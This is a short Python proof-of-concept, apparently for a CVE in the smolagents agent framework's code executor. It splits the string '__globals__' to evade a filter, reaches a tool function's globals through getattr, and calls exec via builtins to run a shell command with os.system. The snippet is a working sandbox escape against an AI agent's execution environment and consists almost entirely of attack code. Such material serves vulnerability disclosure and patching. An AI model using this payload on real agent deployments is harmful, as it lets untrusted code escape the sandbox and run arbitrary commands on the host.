# Source: smolagents CVE-2025-5120 (https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/5xxx/CVE-2025-5120.json), getattr leakage, per https://github.com/huggingface/smolagents/issues/2125
attr = "__glo" + "bals__"
g = getattr(get_weather, attr)
g["__builtins__"]["exec"]("import os; os.system('id')")
